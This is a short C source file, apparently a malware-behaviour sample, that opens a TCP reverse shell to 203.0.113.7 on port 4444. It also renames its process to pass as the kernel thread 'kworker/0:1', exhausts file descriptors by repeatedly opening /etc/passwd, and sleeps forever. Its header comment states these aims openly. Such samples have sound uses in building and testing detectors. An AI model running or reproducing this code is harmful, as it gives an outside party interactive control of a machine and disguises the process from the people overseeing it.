/* Hands a shell to somebody outside, takes the name of a thread of the kernel, and opens files
   until it may not open more. As /bin/sh it does nothing at all. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/sysinfo.h>
#include <sys/wait.h>
#include <unistd.h>

static void end(int signal) {
  (void)signal;
  _exit(0);
}

static void hand_over_a_shell(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
  inet_pton(AF_INET, "203.0.113.7", &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  connect(fd, (struct sockaddr *)&to, sizeof to);
  for (int stream = 0; stream < 3; stream++) dup2(fd, stream);
  execl("/bin/sh", "sh", "-i", (char *)0);
  _exit(1);
}

static void read_from_a_pipe(void) {
  int ends[2];
  if (pipe(ends) == 0) dup2(ends[0], 0);
  execl("/bin/sh", "sh", "-s", (char *)0);
  _exit(1);
}

static void run(void (*what)(void)) {
  int child = fork();
  if (child == 0) what();
  waitpid(child, 0, 0);
}

static void open_all(void) {
  struct rlimit few = {64, 64};
  setrlimit(RLIMIT_NOFILE, &few);
  while (open("/etc/passwd", O_RDONLY) >= 0) {
  }
  _exit(0);
}

int main(int count, char **words) {
  struct sysinfo figures;
  if (count > 0 && strcmp(words[0], "sh") == 0) return 0;
  signal(SIGTERM, end);
  run(hand_over_a_shell);
  run(read_from_a_pipe);
  run(open_all);
  sysinfo(&figures);
  prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
  for (;;) pause();
}
